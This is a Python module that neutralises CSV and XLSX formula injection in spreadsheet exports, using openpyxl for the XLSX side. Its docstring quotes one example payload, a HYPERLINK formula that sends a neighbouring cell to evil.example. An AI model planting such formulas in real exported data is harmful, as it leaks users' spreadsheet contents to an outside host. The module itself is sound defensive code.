"""Cells of exported spreadsheets that a spreadsheet program never runs as formulas (OWASP "CSV injection").

A name such as ``=HYPERLINK("http://evil.example/?x="&A2,"click")`` must arrive in Excel or LibreOffice as the text
the person typed, never as a formula that leaks the neighbouring cells. In CSV, a text cell that starts with a
character a spreadsheet reads as the start of a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return) is
prefixed with a single quote, as OWASP advises. In XLSX every text cell is written as a string cell (openpyxl would
otherwise store a text starting with ``=`` as a formula), and a formula-looking one also gets the quote prefix style,
so that editing the cell in Excel keeps it text.
"""

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_cell(value: object) -> object:
    """The value as a CSV cell: a text that a spreadsheet would read as a formula gets a leading ``'``."""
    if looks_like_formula(value):
        return "'" + str(value)
    return value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def append_row(sheet: Worksheet, values) -> None:
    """Append a row to an XLSX sheet, every text value as a string cell (never a formula)."""
    cells = []
    for value in values:
        if isinstance(value, str):
            # openpyxl checks the text (illegal characters) and would type a text starting with "=" as a formula
            # ("f") or an error code such as "#N/A" as an error ("e"): the type is set back to string.
            cell = Cell(sheet, value=value)
            cell.data_type = "s"
            if looks_like_formula(value):
                cell.quotePrefix = True
            cells.append(cell)
        else:
            cells.append(value)
    sheet.append(cells)
